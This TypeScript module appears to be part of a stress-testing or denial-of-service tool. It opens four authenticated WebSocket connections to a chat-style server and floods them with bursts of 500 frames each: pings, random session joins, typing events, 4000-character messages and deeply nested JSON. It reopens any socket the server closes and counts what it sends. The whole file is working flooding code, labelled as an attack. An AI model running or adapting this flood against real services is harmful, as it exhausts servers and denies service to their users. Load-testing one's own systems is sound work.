import { randomUUID } from 'node:crypto';
import { WebSocket } from 'ws';
import type { Attack } from './attacks.ts';
import type { createTally } from './tally.ts';

const socketCount = 4;
const framesPerBurst = 500;
/** Limits the attacker's own memory if the server reads slowly. */
const maxUnsentBytes = 4 * 1024 * 1024;

/** Frames from the cheapest to the most expensive kind. */
const createFrames = (sessionId: string): readonly ((ws: WebSocket) => void)[] => {
  const text = (frame: object) => {
    const json = JSON.stringify(frame);
    return (ws: WebSocket) => ws.send(json);
  };
  return [
    text({ type: 'ping' }),
    text({ type: 'join_session', sessionId: randomUUID() }),
    text({ type: 'typing', sessionId, isTyping: true }),
    text({ type: 'send_message', sessionId, content: 'x'.repeat(4000) }),
    text({ type: 'ping', more: Array.from({ length: 500 }, () => ({ deep: [[[]]] })) }),
    (ws) => ws.ping(),
  ];
};

/** Floods four sockets and replaces each one that is closed. */
export const floodSockets = (
  { url, cookie, sessionId }: Extract<Attack, { kind: 'sockets' }>,
  tally: ReturnType<typeof createTally>,
  isStopped: () => boolean,
) => {
  const frames = createFrames(sessionId);

  const flood = (ws: WebSocket, send: (socket: WebSocket) => void) => {
    if (ws.readyState !== ws.OPEN || isStopped()) return;
    if (ws.bufferedAmount < maxUnsentBytes) {
      for (let sent = 0; sent < framesPerBurst; sent += 1) send(ws);
      tally.count('frames', framesPerBurst);
    }
    setImmediate(flood, ws, send);
  };

  const open = (turn: number) => {
    if (isStopped()) return;
    const ws = new WebSocket(`${url.replace('http', 'ws')}/ws`, {
      headers: { origin: url, cookie },
      perMessageDeflate: false,
    });
    const send = frames[turn % frames.length] ?? ((socket: WebSocket) => socket.ping());
    ws.on('open', () => flood(ws, send));
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      tally.count(`closed ${code}`);
      setTimeout(open, 10, turn + socketCount + 1);
    });
  };

  for (let socket = 0; socket < socketCount; socket += 1) open(socket);
};
